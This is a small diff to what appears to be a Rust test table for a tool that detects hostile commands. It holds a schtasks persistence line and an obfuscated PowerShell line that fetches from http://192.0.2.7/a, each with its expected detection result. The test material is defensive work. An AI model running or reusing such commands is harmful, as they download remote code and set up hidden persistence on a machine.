@@ -455,7 +455,7 @@ schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
     ),
     (
         "expanded text",
-        r#"$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/a')"#,
+        "$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/a')",
         &["fetch http://192.0.2.7/a"],
     ),
     (
